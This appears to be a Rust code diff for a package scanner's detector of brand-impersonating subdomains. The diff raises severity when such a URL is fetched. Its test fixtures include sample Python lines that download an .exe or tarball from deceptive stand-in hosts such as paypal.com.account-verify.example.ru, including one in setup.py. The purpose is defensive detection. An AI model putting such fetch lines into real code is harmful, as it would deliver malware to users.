@@ -6,8 +6,13 @@
 //! Uses `psl` for the registrable domain; the trusted labels must lie wholly in
 //! the subdomain part, so `www.google.com.au` (registrable `google.com.au`) is
 //! quiet. URLs follow [`super::urls`] rules.
+//!
+//! Severity: Medium (install time High); a URL that is *fetched* — inside the
+//! call of a network fetch (`urlretrieve(URL, …)`, `requests.get(URL)`) — is a
+//! download from a deceptive host: High (install time Critical).
 
 use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
+use super::sinks::{self, SinkKind};
 use super::urls;
 use crate::model::{Category, FileRole, Severity};
 use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
@@ -85,6 +90,30 @@ fn has_labels(sub: &str, t: &str) -> bool {
     })
 }
 
+/// True when `url_off` lies inside the parentheses of the call starting at `call_off`
+/// (same statement, at most 1 KiB on).
+fn is_call_argument(text: &str, call_off: usize, url_off: usize) -> bool {
+    if url_off - call_off > 1024 {
+        return false;
+    }
+    let between = &text.as_bytes()[call_off..url_off];
+    let Some(open) = between.iter().position(|&b| b == b'(') else {
+        return false;
+    };
+    let mut depth = 0i32;
+    for &b in &between[open..] {
+        match b {
+            b'(' => depth += 1,
+            b')' => depth -= 1,
+            _ => {}
+        }
+        if depth == 0 {
+            return false;
+        }
+    }
+    true
+}
+
 pub struct TrustedSubdomain;
 
 impl Detector for TrustedSubdomain {
@@ -99,7 +128,9 @@ impl Detector for TrustedSubdomain {
             return;
         }
         let src = Source::new(file);
-        let sev = if file.role == FileRole::InstallTime { Severity::High } else { Severity::Medium };
+        let install = file.role == FileRole::InstallTime;
+        let sev = if install { Severity::High } else { Severity::Medium };
+        let mut fetches: Option<Vec<usize>> = None;
         let mut n = 0;
         for u in urls::find(&src) {
             if n >= MAX_HITS_PER_FILE {
@@ -107,8 +138,18 @@ impl Detector for TrustedSubdomain {
             }
             if let Some(t) = trusted_in_subdomain(&u.host) {
                 n += 1;
+                // Only files with a deceptive host pay for the sink search.
+                let fetches = fetches
+                    .get_or_insert_with(|| sinks::find(&src, &[SinkKind::Fetch]).iter().map(|s| s.offset).collect());
+                let fetched = fetches.iter().any(|&f| f < u.offset && is_call_argument(file.text, f, u.offset));
+                let sev = match (fetched, install) {
+                    (true, true) => Severity::Critical,
+                    (true, false) => Severity::High,
+                    _ => sev,
+                };
                 let mut ev = pysrc::evidence(file, u.offset, u.host.clone());
-                ev.snippet = ev.snippet.map(|s| format!("{s}  [{t} in front of {}]", u.registrable()));
+                let what = if fetched { "downloaded from " } else { "" };
+                ev.snippet = ev.snippet.map(|s| format!("{s}  [{what}{t} in front of {}]", u.registrable()));
                 hits.push(&META, Hit { severity: Some(sev), evidence: ev });
             }
         }
@@ -141,6 +182,34 @@ mod tests {
                     InstallTime,
                     "\nU = 'http://login.microsoft.com.verify.example.org/'\n",
                     Some((2, "login.microsoft.com.verify.example.org", High)),
+                ),
+                (
+                    "download of an exe from a deceptive host",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import urllib.request\nurllib.request.urlretrieve('https://paypal.com.account-verify.example.ru/update.exe', 'update.exe')\n",
+                    Some((2, "paypal.com.account-verify.example.ru", High)),
+                ),
+                (
+                    "requests.get of a deceptive host in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "r = requests.get(\n    'https://github.com.cdn.example.org/x.tar.gz', timeout=5)\n",
+                    Some((2, "github.com.cdn.example.org", Critical)),
+                ),
+                (
+                    "deceptive host only mentioned next to a fetch",
+                    "pkg/a.py",
+                    Runtime,
+                    "BAD = 'https://paypal.com.evil.example.ru/'\nr = requests.get(url)\n",
+                    Some((1, "paypal.com.evil.example.ru", Medium)),
+                ),
+                (
+                    "legit download of a real subdomain",
+                    "pkg/a.py",
+                    Runtime,
+                    "urllib.request.urlretrieve('https://objects.githubusercontent.com/x.exe', 'x.exe')\n",
+                    None,
                 ),
                 ("real google subdomain", "pkg/a.py", Runtime, "U = 'https://accounts.google.com/o/oauth2'\n", None),
                 ("country registrable", "pkg/a.py", Runtime, "U = 'https://www.google.com.au/search'\n", None),
